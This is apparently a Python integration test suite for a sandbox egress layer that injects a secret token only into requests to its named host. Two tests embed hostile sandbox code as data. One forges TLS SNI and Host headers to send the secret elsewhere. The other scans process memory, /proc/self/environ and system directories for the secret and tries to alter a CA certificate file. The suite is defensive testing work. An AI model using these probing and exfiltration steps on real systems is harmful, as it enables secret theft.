"""Secrets filled in on the way out of real sandboxes: what ordinary clients, and hostile code, get and don't get."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from executor.driver import BubblewrapDriver
from executor.egress.authority import Authority
from executor.egress.egress import Egress
from executor.egress.fill import fill_in, placeholder
from executor.egress.intercept import Interception
from executor.egress.log import EgressLog
from executor.egress.names import Names
from executor.egress.rules import parse
from executor.sandbox import Launch
from executor.variables import environment
from kit.clock import SystemClock
from tests.fakes.certificates import Authority as World
from tests.fakes.internet import FakeInternet
from tests.fakes.real_sandboxes import OUR_ENVIRONMENT, Started
from tests.integration.executor.test_egress import printed

CANARY = "c4n4ry-0f-the-secret-value"
NAMED, OTHER = "93.184.216.34", "8.8.4.4"
CODE = """
import base64, json, os, socket, ssl, urllib.request, urllib.error
import httpx
TOKEN = os.environ["TOKEN"]
def get(url, **headers):
    request = urllib.request.Request(url, headers=headers)
    try:
        return urllib.request.urlopen(request, timeout=20).read().decode()
    except urllib.error.HTTPError as error:
        return [error.code, json.loads(error.read())]
    except OSError as error:
        return type(error).__name__ + " " + str(error)
%s
print(json.dumps(result), flush=True)
"""


@dataclass
class Server:
    """An HTTPS server; `heads` are what it heard."""

    port: int = 0
    heads: list[bytes] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                self.heads.append(await reader.readuntil(b"\r\n\r\n"))
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
        except (OSError, asyncio.IncompleteReadError):
            writer.close()

    @property
    def heard(self) -> bytes:
        return b"".join(self.heads)


@dataclass
class Rig:
    """Two servers with certificates of their own names, and one with another's; a sandbox's code reaches all."""

    driver: BubblewrapDriver
    authority: Authority
    world: FakeInternet
    named: Server
    other: Server
    wrong: Server

    async def run(self, code: str) -> tuple[Any, list[dict[str, Any]]]:
        """What it found, and the egress log."""
        contacts, clock = EgressLog(), SystemClock()
        contacts.hide([CANARY])
        env = environment({"TOKEN": placeholder("TOKEN")}, intercepted=True)
        launch = Launch("run_1", OUR_ENVIRONMENT, (CODE % code).encode(), "w.py", env)
        launch = Launch(**vars(launch) | {"certificates": self.authority.directory})
        fill_ins = [fill_in("TOKEN", CANARY, ["api.example", "wrong.example"])]
        session = Started(await self.driver.start(launch))
        ways = session.sandbox.process.egress
        interception = Interception(self.authority, fill_ins)
        try:
            async with Egress(ways, Names(), self.world.open(), parse(None), contacts, clock, interception):
                result = await printed(session)
        finally:
            await session.end()
        assert CANARY.encode() not in session.stdout + session.stderr + contacts.lines()
        return result, [json.loads(line) for line in contacts.lines().splitlines()]


@asynccontextmanager
async def rigged(driver: BubblewrapDriver, directory: Path) -> AsyncIterator[Rig]:
    world = World(directory)
    (directory / "roots.pem").write_text(world.certificate)
    authority = Authority(directory / "certificates", directory / "roots.pem", SystemClock())
    servers = [Server(), Server(), Server()]
    listening = [
        await asyncio.start_server(server.serve, "127.0.0.1", 0, ssl=world.server(name))
        for server, name in zip(servers, ["api.example", "other.example", "not-wrong.example"], strict=True)
    ]
    for server, listener in zip(servers, listening, strict=True):
        server.port = listener.sockets[0].getsockname()[1]
    named, other, wrong = servers
    names = {"api.example": [[NAMED]], "other.example": [[OTHER]], "wrong.example": [["1.1.1.1"]]}
    reached = {(NAMED, 443): named.port, (OTHER, 443): other.port, ("1.1.1.1", 443): wrong.port}
    try:
        yield Rig(driver, authority, FakeInternet(dict(names), reached), *servers)
    finally:
        for listener in listening:
            listener.close()


async def test_ordinary_clients_send_the_value_to_the_named_host_only(driver: BubblewrapDriver, tmp_path: Path) -> None:
    code = """
async def fetched():
    async with httpx.AsyncClient() as client:
        first = await client.get("https://api.example/", headers={"X-Key": TOKEN})
        return first.text + (await client.get("https://api.example/", auth=("ada", TOKEN))).text
import asyncio
result = [get("https://api.example/", Authorization="Bearer " + TOKEN), asyncio.run(fetched()),
          get("https://other.example/", Authorization="Bearer " + TOKEN)]
"""
    async with rigged(driver, tmp_path) as rig:
        result, contacts = await rig.run(code)
    assert result == ["hello", "hellohello", "hello"]
    assert b"Bearer " + CANARY.encode() in rig.named.heads[0]
    assert CANARY.encode() in rig.named.heads[1]
    assert b"Basic " in rig.named.heads[2]
    assert b"secret://" not in rig.named.heard
    assert b"Bearer secret://TOKEN" in rig.other.heard
    assert CANARY.encode() not in rig.other.heard
    assert [(each["host"], each["verdict"], each["secrets"]) for each in contacts] == [
        ("api.example", "allowed", ["TOKEN"]),
        ("api.example", "allowed", ["TOKEN"]),
        ("other.example", "allowed", []),
    ]


async def test_an_upstream_that_is_not_who_it_should_be(driver: BubblewrapDriver, tmp_path: Path) -> None:
    async with rigged(driver, tmp_path) as rig:
        result, contacts = await rig.run('result = get("https://wrong.example/", Authorization=TOKEN)')
    status, problem = result
    assert (status, problem["code"]) == (502, "upstream_not_verified")
    assert rig.wrong.heads == []
    assert [(each["host"], each["verdict"]) for each in contacts] == [("wrong.example", "denied")]
    assert "wrong.example can't be verified" in contacts[0]["reason"]


async def test_hostile_code_gets_the_value_nowhere_else(driver: BubblewrapDriver, tmp_path: Path) -> None:
    code = f"""
def raw(where, sni, host):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        plain = socket.create_connection((where, 443), 10)
        with context.wrap_socket(plain, server_hostname=sni) as sock:
            text = "GET / HTTP/1.1\\r\\nHost: %s\\r\\nX: secret://TOKEN\\r\\nConnection: close\\r\\n\\r\\n" % host
            sock.sendall(text.encode())
            return sock.recv(65536).decode().split("\\r\\n")[0]
    except OSError as error:
        return "refused"
result = [raw("{OTHER}", "api.example", "api.example"),    # an address of its own, a forged name
          raw("other.example", "api.example", "api.example"),
          raw("api.example", "other.example", "api.example"),
          raw("api.example", "api.example", "other.example"),
          raw("{NAMED}", "api.example", "api.example")]    # the right address, but no name that anybody looked up
"""
    async with rigged(driver, tmp_path) as rig:
        result, contacts = await rig.run(code)
    assert result[0] == result[1] == result[4] == "HTTP/1.1 200 OK"
    assert result[2] == "refused"
    assert result[3].startswith("HTTP/1.1 421")
    assert CANARY.encode() not in rig.named.heard + rig.other.heard
    assert len(rig.other.heads) == 2
    assert len(rig.named.heads) == 1
    assert any("the Host header must name api.example" in each["reason"] for each in contacts)
    assert all(each["secrets"] == [] for each in contacts)


async def test_the_sandbox_holds_neither_the_value_nor_the_key(driver: BubblewrapDriver, tmp_path: Path) -> None:
    code = f"""
get("https://api.example/", Authorization=TOKEN)
CANARY, found = {CANARY[::-1]!r}[::-1], []
for line in open("/proc/self/maps"):
    span, mode, *_ = line.split()
    start, end = (int(part, 16) for part in span.split("-"))
    if "r" in mode and "w" in mode and "[v" not in line:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            try:
                held = memory.read(end - start)
            except OSError:
                continue
            found += [span] if b"secret://TOKEN" in held else []
files = []
for top in ("/etc", "/tmp", "/workflow", "/run", "/dev/shm"):
    for at, _, names in os.walk(top):
        for name in names:
            try:
                files.append(open(os.path.join(at, name), "rb").read(2_000_000))
            except OSError:
                pass
everything = b"".join(files) + open("/proc/self/environ", "rb").read() + json.dumps(dict(os.environ)).encode()
own = open("/etc/runmesh/ca-certificates.crt").read()
try:
    open("/etc/runmesh/ca-certificates.crt", "a")
    writable = True
except OSError:
    writable = False
result = [os.environ["TOKEN"], CANARY.encode() in everything, len(found) > 0, "PRIVATE KEY" in own, writable,
          sorted(os.listdir("/etc/runmesh"))]
"""
    async with rigged(driver, tmp_path) as rig:
        result, _ = await rig.run(code)
        assert CANARY.encode() in rig.named.heard
        on_disk = [path.read_bytes() for path in rig.authority.directory.rglob("*")]
        assert not any(b"PRIVATE KEY" in text for text in on_disk)
    assert result == ["secret://TOKEN", False, True, False, False, ["ca-certificates.crt"]]


async def test_connections_to_other_ports_are_left_alone(driver: BubblewrapDriver, tmp_path: Path) -> None:
    async with rigged(driver, tmp_path) as rig:
        rig.world.servers[NAMED, 8443] = rig.named.port
        code = """
context = ssl._create_unverified_context()
request = urllib.request.Request("https://api.example:8443/", headers={"X": TOKEN})
result = urllib.request.urlopen(request, context=context).read().decode()
"""
        result, _ = await rig.run(code)
    assert result == "hello"
    assert b"secret://TOKEN" in rig.named.heard
    assert CANARY.encode() not in rig.named.heard
